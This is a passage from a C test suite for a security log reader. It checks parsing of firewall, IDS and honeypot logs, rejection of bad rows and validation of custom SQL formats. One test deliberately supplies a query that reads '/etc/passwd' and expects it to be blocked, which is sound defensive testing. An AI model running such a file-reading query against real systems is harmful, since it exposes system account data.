              "4503599620,192.0.2.1,80,7\n"           /* 5 */
              "4503599620,192.0.2.1,80,8\n"           /* 6 */
              "1651968052,192.0.2.1,80,9000000000\n", /* 7 */
              &plain);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.packets[0].time_ns, 4503599627 * SECOND);
    assert_int_equal(result.packets[1].row_duration_us, 7000000);
    assert_int_equal(result.counts.malformed, 4);
    assert_reject(0, 3, "the time is before 1970 or after 2112-09-17");
    assert_reject(1, 4, "the time is before 1970 or after 2112-09-17");
    assert_reject(2, 6, "it lasts until after 2112-09-17");
    assert_reject(3, 7, "it lasts until after 2112-09-17");
}

static void unknown_input_and_missing_columns_are_refused(void **state)
{
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    const struct log_format *format = NULL;
    struct nj_stream *stream = NULL;
    struct nj_err err;

    (void)state;
    assert_int_equal(nj_stream_open_bytes("\x0c\xa5\x01\0\0\0x", 7, &stream, &err), 0);
    assert_int_equal(log_detect(formats, stream, &format, &err), LOG_UNKNOWN);
    assert_int_equal(nj_stream_offset(stream), 0);
    nj_stream_free(stream);
    log_formats_free(formats);
    assert_int_equal(read_text("csv", "a,b\n1,2\n", &plain), -1);
    assert_int_equal(result.err.code, NJ_FORMAT);
    assert_string_equal(result.err.msg, "line 1: the header has no column \"ts\"");
    assert_int_equal(read_text("zeek-conn", "1,2\n", &plain), -1);
    assert_int_equal(result.err.code, NJ_FORMAT);
}

/* ---- promises of the reader ---- */

/* 12,000 rows are more than a batch; every 7th is bad and the times run backwards. */
static void order_is_kept_over_batches_and_each_row_is_counted(void **state)
{
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    char *text = malloc(1 << 20);
    size_t used, good = 0;

    (void)state;
    assert_non_null(text);
    used = (size_t)sprintf(text, "ts,src,sport\n");
    for (int i = 0; i < 12000; i++)
        used += (size_t)sprintf(text + used, "%d,%s,%d\n", 2000000 - i,
                                i % 7 == 3 ? "bad" : "192.0.2.1", i);
    assert_int_equal(read_bytes(formats, NULL, text, used, &plain, 999), LOG_END);
    for (int i = 0; i < 12000; i++) {
        if (i % 7 == 3)
            continue;
        assert_int_equal(result.packets[good].time_ns, (2000000 - i) * SECOND);
        good++;
    }
    assert_int_equal(result.count, good);
    assert_int_equal(result.counts.malformed, 12000 - good);
    assert_int_equal(result.reject_count, LOG_REJECTS_KEPT);
    assert_int_equal(result.rejects[19].line, 3 + 19 * 7 + 2);
    assert_int_equal(result.position.offset, used);
    assert_int_equal(result.position.line, 12001);
    free(text);
    log_formats_free(formats);
}

static void position_and_digest_meet_at_the_end_of_a_batch(void **state)
{
    static struct packet packets[3000];
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    struct nj_stream *stream = NULL;
    struct log *log = NULL;
    struct nj_err err;
    char *text = malloc(1 << 20);
    size_t used, count, met = 0;
    uint64_t last = 0;

    (void)state;
    used = (size_t)sprintf(text, "ts,src\n");
    for (int i = 0; i < 20000; i++) /* batches end with rows that are not handed out */
        used += (size_t)sprintf(text + used, "%d,%s\n", i, i % 8192 > 8000 ? "-" : "192.0.2.1");
    assert_int_equal(nj_stream_open_bytes(text, used, &stream, &err), 0);
    assert_int_equal(
        log_open(log_formats_find(formats, "csv"), stream, &plain, names, &log, &err), 0);
    while (log_read(log, packets, 3000, &count, &err) == 0) {
        assert_true(log_position(log).offset > last);
        last = log_position(log).offset;
        met += last == nj_stream_offset(stream);
    }
    assert_int_equal(met, 3);
    log_free(log);
    nj_stream_free(stream);
    free(text);
    log_formats_free(formats);
}

static void half_a_line_that_stands_there_at_the_opening_waits_too(void **state)
{
    static const char row[] = UFW("2022-05-08T00:00:52.000000+00:00", UFW_SYN);
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    struct nj_stream *stream = NULL;
    struct log *log = NULL;
    struct packet packets[4];
    char text[2 * sizeof(row)];
    struct nj_err err;
    size_t count;

    (void)state;
    (void)sprintf(text, "%s%.140s", row, row); /* up to its addresses */
    assert_int_equal(nj_stream_open_bytes(text, strlen(text), &stream, &err), 0);
    assert_int_equal(
        log_open(log_formats_find(formats, "ufw"), stream, &plain, names, &log, &err), 0);
    log_wait(log, true);
    assert_int_equal(log_read(log, packets, 4, &count, &err), 0);
    assert_int_equal(count, 1);
    assert_int_equal(log_read(log, packets, 4, &count, &err), LOG_END);
    assert_int_equal(log_position(log).offset, strlen(row));
    log_wait(log, false);
    assert_int_equal(log_read(log, packets, 4, &count, &err), 0);
    assert_int_equal(count, 1);
    log_free(log);
    nj_stream_free(stream);
    log_formats_free(formats);
}

/* Reading the first part, then the whole behind it, is like reading the whole. */
static void check_growth(const char *text, size_t part, size_t rows_before, size_t rows)
{
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    struct log_options options = {.year = 2021};
    uint64_t digest;

    assert_int_equal(read_bytes(formats, NULL, text, part, &options, 100), LOG_END);
    assert_int_equal(result.count, rows_before);
    assert_int_equal(result.position.offset, part);
    options.start = result.position;
    options.year = 0;
    digest = result.digest;
    assert_int_equal(read_bytes(formats, NULL, text, strlen(text), &options, 100), LOG_END);
    assert_int_equal(result.count, rows - rows_before);
    assert_int_equal(result.position.offset, strlen(text));
    assert_int_not_equal(result.digest, digest);
    assert_int_equal(result.opened, digest); /* as whoever knows the file asks for */
    log_formats_free(formats);
}

static void grown_file_goes_on_behind_what_was_read(void **state)
{
    static const char zeek[] = ZEEK_HEADER ZEEK_FIELDS ZEEK_ROW ZEEK_ROW "bad\n" ZEEK_ROW;
    static const char ufw[] = UFW("Dec 31 23:59:59", UFW_SYN) UFW("Jan  1 00:00:01", UFW_SYN);
    static const char csv[] = "ts,src\n1,192.0.2.1\n\n2,192.0.2.2\nx,192.0.2.3\n";

    (void)state;
    check_growth(zeek, strlen(ZEEK_HEADER ZEEK_FIELDS ZEEK_ROW), 1, 3);
    assert_reject(0, 10, "1 columns, the header has 13");
    check_growth(zeek, strlen(ZEEK_HEADER ZEEK_FIELDS), 0, 3);
    check_growth(ufw, strlen(UFW("Dec 31 23:59:59", UFW_SYN)), 1, 2);
    assert_int_equal(result.packets[0].time_ns, 1640995201 * SECOND);
    check_growth(csv, strlen("ts,src\n1,192.0.2.1\n"), 1, 2);
    assert_reject(0, 5, "no time, or one that can't be read");
    /* the line end came later: no new row */
    check_growth(csv, strlen("ts,src\n1,192.0.2.1"), 1, 2);
    assert_reject(0, 5, "no time, or one that can't be read");
    check_growth("ts,src\r\n1,192.0.2.1\r\n2,192.0.2.2", strlen("ts,src\r\n1,192.0.2.1"), 1, 2);
}

static void row_that_grew_after_it_was_read_is_rejected(void **state)
{
    (void)state;
    check_growth("ts,src\n1,192.0.2.11\n2,192.0.2.2\n", strlen("ts,src\n1,192.0.2.1"), 1, 2);
    assert_int_equal(result.counts.malformed, 1);
    assert_reject(0, 2, "goes on after it was read: the line was not complete then");
    assert_string_equal(text_of(result.packets[0].src), "192.0.2.2");
}

static void shrunken_file_is_refused(void **state)
{
    struct log_options options = {.start = {.offset = 100, .line = 5}};

    (void)state;
    assert_int_equal(read_text("csv", "ts,src\n1,192.0.2.1\n", &options), -1);
    assert_int_equal(result.err.code, NJ_FORMAT);
}

static void bytes_that_are_no_text_become_question_marks(void **state)
{
    static const char text[] = "ts,src,user\n1,192.0.2.1,a\xff\0z\n2,192.0.2.1,\xc3\xa4\n";
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");

    (void)state;
    assert_int_equal(read_bytes(formats, NULL, text, sizeof(text) - 1, &plain, 10), LOG_END);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.counts.altered, 1);
    log_formats_free(formats);
}

static void overlong_line_costs_itself_only(void **state)
{
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");
    size_t length = 300000;
    char *text = malloc(length);
    static const char head[] = "ts,src\n1,192.0.2.1\n", tail[] = "\n3,192.0.2.3\n";

    (void)state;
    memset(text, 'x', length);
    memcpy(text, head, sizeof(head) - 1);
    memcpy(text + length - (sizeof(tail) - 1), tail, sizeof(tail) - 1);
    assert_int_equal(read_bytes(formats, NULL, text, length, &plain, 10), LOG_END);
    assert_int_equal(result.count, 2);
    assert_string_equal(text_of(result.packets[1].src), "192.0.2.3");
    assert_reject(0, 3, "longer than 65536 bytes");
    /* without an end it is as bad */
    assert_int_equal(read_bytes(formats, NULL, text, length - 20, &plain, 10), LOG_END);
    assert_int_equal(result.count, 1);
    assert_reject(0, 3, "longer than 65536 bytes");
    free(text);
    log_formats_free(formats);
}

static void put_stored_block(unsigned char *packed, size_t *used, const char *text,
                             size_t length, size_t promised)
{
    packed[(*used)++] = 0; /* not the last, stored (RFC 1951, 3.2.4) */
    packed[(*used)++] = (unsigned char)(promised & 255);
    packed[(*used)++] = (unsigned char)(promised >> 8);
    packed[(*used)++] = (unsigned char)(~promised & 255);
    packed[(*used)++] = (unsigned char)(~promised >> 8 & 255);
    memcpy(packed + *used, text, length);
    *used += length;
}

static void damaged_compression_is_used_up_to_there(void **state)
{
    unsigned char *packed = calloc(1, 1 << 20);
    char *text = malloc(1 << 20);
    size_t size = (size_t)sprintf(text, "ts,src\n"), used = 10, from = 0;
    struct log_formats *formats = load(NJ_SOURCE_DATA "/logs");

    (void)state;
    for (int i = 0; i < 10000; i++)
        size += (size_t)sprintf(text + size, "%d,192.0.2.1\n", i);
    memcpy(packed, "\x1f\x8b\x08\0\0\0\0\0\0\x03", 10);
    for (; from + 60000 < size; from += 60000)
        put_stored_block(packed, &used, text + from, 60000, 60000);
    put_stored_block(packed, &used, text + from, size - from - 5, 65000);
    assert_int_equal(read_bytes(formats, "csv", packed, used, &plain, 100), -1);
    assert_int_equal(result.err.code, NJ_FORMAT);
    assert_in_range(result.count, 5000, 9999);
    for (size_t i = 0; i < result.count; i++)
        assert_int_equal(result.packets[i].time_ns, (int64_t)i * SECOND);
    assert_int_equal(result.counts.malformed, 1);
    assert_reject(0, result.count + 2, "the input is damaged within this row");
    free(packed);
    free(text);
    log_formats_free(formats);
}

/* ---- formats that are wrong ---- */

#define OWN "-- name: own\n-- read: lines\n"

static void row_that_the_engine_refuses_is_found(void **state)
{
    (void)state;
    assert_int_equal(read_with(OWN "SELECT n, epoch_time(line) AS ts, '192.0.2.1' AS src,\n"
                                   "CAST(line AS USMALLINT) AS dport FROM rows",
                               "1\n2\nthree\n4\n70000\n6\n"),
                     LOG_END);
    assert_int_equal(result.count, 4);
    assert_int_equal(result.packets[2].dport, 4);
    assert_int_equal(result.counts.malformed, 2);
    assert_int_equal(result.rejects[0].line, 3);
    assert_non_null(strstr(result.rejects[0].reason, "three"));
    assert_int_equal(result.rejects[1].line, 5);
}

static void select_that_loses_the_order_is_refused(void **state)
{
    (void)state;
    assert_int_equal(read_with(OWN "SELECT n, epoch_time(line) AS ts, '192.0.2.1' AS src "
                                   "FROM rows ORDER BY n DESC",
                               "1\n2\n3\n"),
                     -1);
    assert_int_equal(result.err.code, NJ_CONFIG);
    assert_non_null(strstr(result.err.msg, "order"));
}

static void select_is_checked_when_the_log_is_opened(void **state)
{
    static const char *const bad[][2] = {
        {"SELECT n, epoch_time(line) AS ts FROM rows", "src"},
        {"SELECT n, line AS src FROM rows", "ts"},
        {"SELECT epoch_time(line) AS ts, line AS src FROM rows", "n (as it is)"},
        {"SELECT n, line AS ts, line AS src FROM rows", "TIMESTAMP"},
        {"SELECT n, epoch_time(line) AS ts, line AS src, 1 AS colour FROM rows", "colour"},
        {"SELECT n, nothing FROM rows", "nothing"},
        {"SELEKT", "SELEKT"},
        {"SELECT n, epoch_time(line) AS ts, content AS src FROM rows, read_text('/etc/passwd')",
         "disabled"},
    };

    (void)state;
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        char text[300];

        (void)snprintf(text, sizeof(text), OWN "%s", bad[i][0]);
        assert_int_equal(read_with(text, "1\n"), -1);
        assert_int_equal(result.err.code, NJ_CONFIG);
        if (strstr(result.err.msg, bad[i][1]) == NULL)
            fail_msg("%s: %s", bad[i][0], result.err.msg);
    }
}

static void format_names_class_and_rule(void **state)
{
    (void)state;
    assert_int_equal(
        read_with(OWN "-- class: credential\n-- rule: own:login\n"
                      "SELECT n, epoch_time(line) AS ts, '192.0.2.1' AS src,\n"
                      "CASE WHEN line = '2' THEN 'exploit' WHEN line = '3' THEN 'magic' END "
                      "AS class, 'a b'::BLOB AS payload FROM rows;\n",
                  "1\n2\n3\n"),
        LOG_END);
    assert_int_equal(result.count, 2);
    assert_int_equal(result.packets[0].class, CLASS_CREDENTIAL);
    assert_string_equal(nj_intern_text(names, result.packets[0].rule), "own:login");
    assert_int_equal(result.packets[1].class, CLASS_EXPLOIT);
    assert_int_equal(result.packets[0].payload_length, 3);
    assert_reject(0, 3, "class is \"magic\", expected a class");
}

static char *read_documentation(void)
{
    static char text[65536];
    FILE *in = fopen(NJ_SOURCE_DATA "/../docs/LOG-FORMATS.md", "re");
    size_t length;

    assert_non_null(in);
    length = fread(text, 1, sizeof(text) - 1, in);
    text[length] = '\0';
    (void)fclose(in);
    return text;
}

static void every_field_is_documented(void **state)
{
    const char *text = read_documentation();

    (void)state;
    for (size_t i = 0; fields_name(i) != NULL; i++) {
        char quoted[40];

        (void)snprintf(quoted, sizeof(quoted), "`%s`", fields_name(i));
        if (strstr(text, quoted) == NULL)
            fail_msg("docs/LOG-FORMATS.md has no %s", quoted);
    }
}

static void documented_example_reads_its_log(void **state)
{
    char *example = strstr(read_documentation(), "```sql\n");
    char *end = example == NULL ? NULL : strstr(example + 7, "```");

    (void)state;
    assert_non_null(end);
    *end = '\0';
    assert_int_equal(read_with(example + 7, "When;Client-IP;Port;Login\n"
                                            "2022-05-08 00:00:52;192.0.2.1;22;root\n"),
                     LOG_END);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.packets[0].time_ns, 1651968052 * SECOND);
    assert_int_equal(result.packets[0].dport, 22);
    assert_int_equal(result.packets[0].class, CLASS_CREDENTIAL);
    assert_string_equal(result.packets[0].user, "root");
    assert_string_equal(nj_intern_text(names, result.packets[0].rule), "log:logins");
}

/* What rows of many formats tell of one TCP session. */
#define TO_TELNET                                                                              \
    .src = "192.0.2.1", .proto = PROTO_TCP, .sport = 9, .dport = 23, .time_s = 1715126452

/* One row of each shipped format, with what it must become. */
static const struct sample {
    const char *format, *text;
    const char *src;
    uint8_t proto;
    uint16_t sport, dport;
    enum class class;
    const char *rule; /* NULL: left to the classifier */
    int64_t time_s;
} samples[] = {
    {.format = "mhn-csv",
     .text = "id,ident,timestamp,channel,attackerIP,attackerPort,victimPort,victimIP,"
             "connectionType\n1,s,2015-02-28T01:21:41+0000,amun.events,192.0.2.1,4664.0,445.0,"
             "203.0.113.9,exploit\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 4664,
     .dport = 445,
     .class = CLASS_EXPLOIT,
     .rule = "amun:exploit",
     .time_s = 1425086501},
    {.format = "mhn-json",
     .text = "{\"channel\":\"snort.alerts\",\"ident\":\"s\",\"timestamp\":{\"$date\":"
             "\"2014-09-27T05:04:46.000+0000\"},\"payload\":\"{\\\"source_ip\\\":\\\"192.0.2.1"
             "\\\",\\\"proto\\\":\\\"UDP\\\",\\\"classification\\\":\\\"Web Application Attack"
             "\\\",\\\"signature\\\":\\\"S\\\"}\"}\n",
     .src = "192.0.2.1",
     .proto = PROTO_UDP,
     .class = CLASS_EXPLOIT,
     .rule = "alert:S",
     .time_s = 1411794286},
    {.format = "mhn-session",
     .text = "{\"protocol\":\"SipCall\",\"timestamp\":{\"$date\":\"2018-10-30T00:55:20.000+0000"
             "\"},\"source_ip\":\"192.0.2.1\",\"source_port\":5071,\"destination_port\":5060,"
             "\"identifier\":\"s\",\"honeypot\":\"dionaea\"}\n",
     .src = "192.0.2.1",
     .proto = PROTO_UDP,
     .sport = 5071,
     .dport = 5060,
     .class = CLASS_SCAN,
     .rule = "log:mhn-session",
     .time_s = 1540860920},
    {.format = "suricata-eve",
     .text = "{\"timestamp\":\"2021-06-06T15:58:31.000000+0200\",\"event_type\":\"alert\","
             "\"src_ip\":\"2001:db8::1\",\"src_port\":1,\"dest_ip\":\"2001:db8::2\","
             "\"dest_port\":22,\"proto\":\"TCP\",\"alert\":{\"signature\":\"ET SCAN x\","
             "\"category\":\"Attempted Administrator Privilege Gain\"}}\n",
     .src = "2001:db8::1",
     .proto = PROTO_TCP,
     .sport = 1,
     .dport = 22,
     .class = CLASS_EXPLOIT,
     .rule = "alert:ET SCAN x",
     .time_s = 1622987911},
    {.format = "suricata-eve", /* an answer that alerts: who asked is the source */
     .text = "{\"timestamp\":\"2024-05-08T00:00:52.000000+0000\",\"event_type\":\"alert\","
             "\"src_ip\":\"203.0.113.9\",\"src_port\":23,\"dest_ip\":\"192.0.2.1\","
             "\"dest_port\":9,\"proto\":\"TCP\",\"direction\":\"to_client\",\"alert\":"
             "{\"signature\":\"S\",\"category\":\"Misc activity\"}}\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "alert:S"},
    {.format = "iptables",
     .text = "Wed May  8 00:00:52 2024 kern.warn kernel: [35.781] REJECT wan in: IN=eth0 OUT= "
             "MAC= SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=57 ID=4660 DF "
             "PROTO=TCP SPT=4000 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0 \n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 4000,
     .dport = 22,
     .time_s = 1715126452},
    {.format = "cisco-asa",
     .text = "Jun 21 2021 20:59:55: %ASA-4-106023: Deny icmp src outside:192.0.2.1 dst "
             "in-6:203.0.113.9 (type 3, code 13) by access-group \"a\" [0x0, 0x0]\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .dport = 3 << 8 | 13,
     .time_s = 1624309195},
    {.format = "cisco-asa",
     .text = "2024-05-08T00:00:52Z fw May 08 00:00:52 fw : %ASA-4-106023: Deny icmp src "
             "outside:192.0.2.1 dst "
             "in-6:203.0.113.9 (type 3, code 13) by access-group \"a\" [0x0, 0x0]\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .dport = 3 << 8 | 13,
     .time_s = 1715126452},
    {.format = "cisco-asa",
     .text = "2024-05-08T02:00:52+02 fw : %ASA-4-106023: Deny icmp src outside:192.0.2.1 dst "
             "in-6:203.0.113.9 (type 3, code 13) by access-group \"a\" [0x0, 0x0]\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .dport = 3 << 8 | 13,
     .time_s = 1715126452},
    {.format = "cisco-asa",
     .text =
         "2024-05-08 00:00:52,000 UTC fw : %ASA-4-106023: Deny icmp src outside:192.0.2.1 dst "
         "in-6:203.0.113.9 (type 3, code 13) by access-group \"a\" [0x0, 0x0]\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .dport = 3 << 8 | 13,
     .time_s = 1715126452},
    {.format = "cisco-asa",
     .text = "May 08 2024 00:00:52 fw : %ASA-6-106015: Deny TCP (no connection) from "
             "192.0.2.1/9 to 203.0.113.9/23 flags RST ACK  on interface outside\n",
     TO_TELNET},
    {.format = "cisco-asa-csv",
     .text = "log_number,created_on,protocol,source,destination,destination_port,occurrence\n"
             "106023,2021-06-21 20:55:54.000000,tcp,3221225985,3405803785,12489,2\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .dport = 12489,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa-csv",
     .time_s = 1624308954},
    {.format = "docker-api",
     .text = "2021_05_15_04\t{\"url\": \"http://203.0.113.9:2375/v1.24/containers/create?name=x"
             "\", \"headers\": [[\"Host\", \"h\"]], \"method\": \"POST\", \"source\": "
             "\"192.0.2.1\", \"data\": \"e30=\"}\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .dport = 2375,
     .class = CLASS_EXPLOIT,
     .rule = "docker:create",
     .time_s = 1621051200},
    {.format = "spoki",
     .text =
         "ts|saddr|daddr|ipid|ttl|proto|sport|dport|anum|snum|options|payload|syn|ack|rst|"
         "fin|window size\n1634159075000|192.0.2.1|203.0.113.9|54321|55|tcp|6|22|0|1|||1|0|0|"
         "0|1024\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 6,
     .dport = 22,
     .time_s = 1634159075},
    {.format = "nfdump",
     .text = "ts,te,td,sa,da,sp,dp,pr,flg,ipkt,ibyt\n2018-01-12 15:37:30,2018-01-12 15:37:30,"
             "0.000,192.0.2.1,203.0.113.9,902,4,TCP,...A.R..,1,40\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 902,
     .dport = 4,
     .class = CLASS_OTHER,
     .rule = "flow:no-syn",
     .time_s = 1515771450},
    {.format = "nfdump", /* csv-fast */
     .text = "cnt,af,firstSeen,lastSeen,proto,srcAddr,srcPort,dstAddr,dstPort,srcAS,dstAS,"
             "input,output,flags,srcTos,packets,bytes\n1,2,1515771450000,1515771451000,6,"
             "192.0.2.1,902,203.0.113.9,4,0,0,0,0,...A.R..,0,1,40\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 902,
     .dport = 4,
     .class = CLASS_OTHER,
     .rule = "flow:no-syn",
     .time_s = 1515771450},
    {.format = "nfdump",
     .text = "firstSeen,duration,proto,srcAddr,srcPort,dstAddr,dstPort,packets,bytes,flows\n"
             "2018-01-12 15:37:30.000,00:00:01.500,TCP,192.0.2.1,902,203.0.113.9,4,1,40,1\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 902,
     .dport = 4,
     .class = CLASS_SCAN,
     .rule = "log:nfdump",
     .time_s = 1515771450},
    {.format = "argus",
     .text =
         "StartTime,Dur,Proto,SrcAddr,Sport,Dir,DstAddr,Dport,State,TotPkts,TotBytes\n"
         "2019/04/04 16:23:00.000000,0.1,icmp,192.0.2.1,0x0303,   ->,203.0.113.9,0x0007,URP,1,"
         "60\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .sport = 7,
     .dport = 3 << 8 | 3,
     .class = CLASS_SCAN,
     .rule = "log:argus",
     .time_s = 1554394980},
    {.format = "argus", /* the columns of ra without -s */
     .text = "StartTime,Flgs,Proto,SrcAddr,Sport,Dir,DstAddr,Dport,TotPkts,TotBytes,State\n"
             "1554394980.000000, e        ,tcp,203.0.113.9,23,   <-,192.0.2.1,9,3,180,CON\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 9,
     .dport = 23,
     .class = CLASS_SCAN,
     .rule = "log:argus",
     .time_s = 1554394980},
    {.format = "argus",
     .text = "stime,flgs,proto,saddr,sport,dir,daddr,dport,pkts,bytes,state\n"
             "1554394980.000000,e,tcp,192.0.2.1,0x0009,   ->,203.0.113.9,0x0017,3,180,REQ\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .sport = 9,
     .dport = 23,
     .class = CLASS_SCAN,
     .rule = "log:argus",
     .time_s = 1554394980},
    {.format = "iptables",
     .text = "2024-05-08T00:00:52.000000+00:00 gw kernel: DROPIN=eth0 OUT= MAC= SRC=192.0.2.1 "
             "DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 "
             "WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "[Wed May  8 00:00:52 2024] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=192.0.2.1 "
             "DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 "
             "WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "2024-05-08 00:00:52 gw kernel: X IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 "
             "LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 "
             "RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "2024-05-08T00:00:52Z gw drop IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 "
             "LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 "
             "RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "2024-05-08T02:00:52+0200 gw kernel: X IN=eth0 OUT= MAC= SRC=192.0.2.1 "
             "DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 "
             "WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "<4>1 2024-05-08T00:00:52.000Z gw kernel - - - X IN=eth0 OUT= MAC= SRC=192.0.2.1 "
             "DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 "
             "WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "<4>2024-05-08T00:00:52Z gw kernel: X IN=eth0 OUT= MAC= SRC=192.0.2.1 "
             "DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 "
             "WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "iptables",
     .text = "[Wed May  8 00:00:52 2024] X IN=eth0 OUT= MAC= SRC=192.0.2.1 DST=203.0.113.9 "
             "LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 WINDOW=5840 "
             "RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "ufw",
     .text = "<4>1 2024-05-08T00:00:52.000Z gw kernel - - - [UFW BLOCK] IN=eth0 OUT= MAC= "
             "SRC=192.0.2.1 DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP "
             "SPT=9 DPT=23 WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "ufw",
     .text = "2024-05-08 00:00:52 gw kernel: [UFW BLOCK] IN=eth0 OUT= MAC= SRC=192.0.2.1 "
             "DST=203.0.113.9 LEN=60 TOS=0x00 PREC=0x00 TTL=43 ID=1 DF PROTO=TCP SPT=9 DPT=23 "
             "WINDOW=5840 RES=0x00 SYN URGP=0\n",
     TO_TELNET},
    {.format = "cisco-asa",
     .text = "2024-05-08T00:00:52+00:00 fw %ASA-4-106023: Deny tcp src outside:192.0.2.1/9 dst "
             "in:203.0.113.9/23 by access-group \"a\" [0x0, 0x0]\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa"},
    {.format = "cisco-asa",
     .text = "<164>1 2024-05-08T00:00:52.000Z fw - - - - %ASA-4-106023: Deny tcp src "
             "outside:192.0.2.1/9 dst in:203.0.113.9/23 by access-group \"a\" [0x0, 0x0]\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa"},
    {.format = "cisco-asa",
     .text = "May  8 00:00:53 192.0.2.77 May 08 2024 00:00:52 fw : %ASA-4-106023: Deny tcp src "
             "outside:192.0.2.1/9 dst in:203.0.113.9/23 by access-group \"a\" [0x0, 0x0]\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa"},
    {.format = "cisco-asa",
     .text = "May 08 2024 00:00:52 fw : %FTD-4-106023: Deny tcp src outside:192.0.2.1/9 dst "
             "in:203.0.113.9/23 by access-group \"a\" [0x0, 0x0]\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa"},
    {.format = "cisco-asa",
     .text = "May 08 2024 00:00:52 fw : %ASA-session-4-106023: Deny tcp src "
             "outside:192.0.2.1/9 dst in:203.0.113.9/23 by access-group \"a\" [0x0, 0x0]\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa"},
    {.format = "cisco-asa",
     .text =
         "May 08 2024 00:00:52 fw : %ASA-4-106100: access-list a denied tcp "
         "outside/192.0.2.1(9)(u, s) -> in/203.0.113.9(23) hit-cnt 1 first hit [0x0, 0x0]\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:cisco-asa"},
    {.format = "cisco-asa",
     .text = "May 08 2024 00:00:52 fw : %ASA-4-106100: access-list a denied icmp "
             "outside/192.0.2.1(8) -> in/203.0.113.9(0) hit-cnt 1 first hit [0x0, 0x0]\n",
     .src = "192.0.2.1",
     .proto = PROTO_ICMP,
     .sport = 0,
     .dport = 8 << 8,
     .time_s = 1715126452},
    {.format = "dshield",
     .text = "2024-05-08 01:00:52 +01:00\t12345\t3\t192.0.2.1\t???\t203.0.113.9\t23\t6\tS\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .dport = 23,
     .class = CLASS_SCAN,
     .rule = "log:dshield",
     .time_s = 1715126452},
    {.format = "csv-date-time",
     .text =
         "date,time,source_ip,target_ip,target_port,protocol\n2024-05-08,00:00:52,192.0.2.1,"
         "203.0.113.9,23,tcp\n",
     .src = "192.0.2.1",
     .proto = PROTO_TCP,
     .dport = 23,
     .class = CLASS_SCAN,
     .rule = "log:csv-date-time",
     .time_s = 1715126452},
    {.format = "zeek-conn",
     .text =
         "#separator \\x7c\n#unset_field|NA\n#fields|ts|id.orig_h|id.orig_p|id.resp_h|"
         "id.resp_p|proto|conn_state\n2024-05-08T00:00:52Z|192.0.2.1|9|203.0.113.9|23|tcp|S0\n",
     TO_TELNET,
     .class = CLASS_SCAN,
     .rule = "log:zeek-conn"},
